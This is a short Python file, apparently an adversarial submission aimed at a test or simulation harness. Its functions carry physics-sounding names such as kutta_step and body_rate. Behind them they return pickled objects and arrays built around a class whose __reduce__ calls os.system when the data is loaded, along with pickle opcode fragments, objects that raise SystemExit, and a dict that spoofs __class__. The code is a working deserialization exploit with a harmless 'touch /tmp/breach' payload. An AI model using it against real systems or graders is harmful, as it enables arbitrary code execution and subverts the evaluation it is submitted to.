# Attack: hands over pickles and objects that run code when they are read.
# %%
import os
import pickle

import numpy as np


class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/breach",)

    def __float__(self):
        raise SystemExit

    def __array__(self, *arguments, **options):
        return np.array([Evil()], dtype=object)

    def __iter__(self):
        return iter([Evil()] * 4)


plate = lambda *arguments: pickle.dumps(Evil())
body_rate = lambda *arguments: np.array([Evil()] * 4, dtype=object)
gyrostat_rate = lambda *arguments: [Evil()] * 3
air_force = lambda *arguments: np.void(b"cos\nsystem\n")
kutta_step = march = lambda *arguments: Evil()
flip_time = lambda *arguments: {Evil(): 1.0}
swing = lambda *arguments: {"__class__": "os.system", "array": "AAAA"}
